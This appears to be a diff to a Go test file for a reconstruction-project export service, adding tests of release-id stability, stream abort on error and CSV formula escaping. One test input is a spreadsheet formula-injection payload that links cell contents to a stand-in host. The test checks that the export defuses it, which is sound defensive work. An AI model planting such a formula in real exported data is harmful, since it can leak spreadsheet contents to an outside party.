@@ -4,6 +4,10 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"errors"
+	"fmt"
+	"log/slog"
+	"net/http"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -70,7 +74,7 @@ func TestExportsValid(t *testing.T) {
 
 	var ocds bytes.Buffer
 	begun := false
-	if err := reconstructionweb.WriteOCDS(ctx, d.Service, nil, &ocds, "https://parley.example/reconstruction/export/ocds.json", func() { begun = true }); err != nil || !begun {
+	if err := reconstructionweb.WriteOCDS(ctx, d.Service, &ocds, "https://parley.example/reconstruction/export/ocds.json", func() { begun = true }); err != nil || !begun {
 		t.Fatalf("WriteOCDS = %v (begun %v)", err, begun)
 	}
 	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(ocds.Bytes()))
@@ -93,7 +97,7 @@ func TestExportsValid(t *testing.T) {
 
 	lint := xmllint(t)
 	var iati bytes.Buffer
-	if err := reconstructionweb.WriteIATI(ctx, d.Service, nil, &iati, func() {}); err != nil {
+	if err := reconstructionweb.WriteIATI(ctx, d.Service, &iati, func() {}); err != nil {
 		t.Fatal(err)
 	}
 	valid := func(body string) (bool, string) {
@@ -155,4 +159,69 @@ func TestCSVEveryKind(t *testing.T) {
 			}
 		}
 	}
+}
+
+// A release's id names its content: the same export twice gives the same
+// ids, and a payment added gives its tender's release a new id and date.
+// A cell a spreadsheet would run is written as text.
+func TestExportIdentity(t *testing.T) {
+	d := testkit.NewDemo(t, testkit.DemoOptions{})
+	ctx := t.Context()
+	releases := func() map[string][2]string {
+		var b bytes.Buffer
+		if err := reconstructionweb.WriteOCDS(ctx, d.Service, &b, "https://parley.example/ocds.json", func() {}); err != nil {
+			t.Fatal(err)
+		}
+		var pkg struct {
+			Releases []struct{ OCID, ID, Date string }
+		}
+		if err := json.Unmarshal(b.Bytes(), &pkg); err != nil {
+			t.Fatal(err)
+		}
+		out := map[string][2]string{}
+		for _, r := range pkg.Releases {
+			out[r.OCID] = [2]string{r.ID, r.Date}
+		}
+		return out
+	}
+	first, again := releases(), releases()
+	if len(first) != 1 || fmt.Sprint(first) != fmt.Sprint(again) {
+		t.Fatalf("two exports of the same records: %v and %v", first, again)
+	}
+	project := d.Find(t, "us-mediator", reconstruction.KindProject, "title", "Restoring high-voltage transmission in Zaporizhzhia oblast")
+	contract := d.Find(t, "us-mediator", reconstruction.KindContract, "supplier", "Illustrative Grid Equipment Ltd")
+	d.MustWrite(t, "us-mediator", reconstruction.KindContract, reconstruction.Contract{ProjectID: project, Title: "Survey", Supplier: `=HYPERLINK("http://x.example/?"&A1)`,
+		Status: "active", Currency: "USD", Value: "10", Signed: "2026-05-01"})
+	d.MustWrite(t, "us-mediator", reconstruction.KindPayment, reconstruction.Payment{ProjectID: project, ContractID: contract, Amount: "1000", Currency: "USD", Rate: "1", Date: "2026-05-01"})
+	after := releases()
+	for ocid, was := range first {
+		// Dates are to the second, and the payment may fall in the same.
+		if now := after[ocid]; now[0] == was[0] || now[1] < was[1] {
+			t.Errorf("release %s after a payment: %v, before %v; want a new id, dated no earlier", ocid, now, was)
+		}
+	}
+	k, _ := reconstructionweb.KindOf("project-contracts")
+	var b bytes.Buffer
+	if err := reconstructionweb.WriteCSV(ctx, d.Service, nil, k, &b); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(b.String(), `'=HYPERLINK(`) {
+		t.Errorf("a supplier's formula is exported as a formula:\n%s", b.String())
+	}
+}
+
+// An export that fails after it began aborts the answer, so that the
+// reader does not take what it got for the whole file; one that fails
+// before answers the error.
+func TestStreamCutShort(t *testing.T) {
+	boom := errors.New("boom")
+	if err := reconstructionweb.Stream(slog.New(slog.DiscardHandler), func(func()) error { return boom }); err != boom {
+		t.Errorf("an error before the export began: %v", err)
+	}
+	defer func() {
+		if v := recover(); v != http.ErrAbortHandler {
+			t.Errorf("an error after the export began: recovered %v, want http.ErrAbortHandler", v)
+		}
+	}()
+	reconstructionweb.Stream(slog.New(slog.DiscardHandler), func(begin func()) error { begin(); return boom })
 }
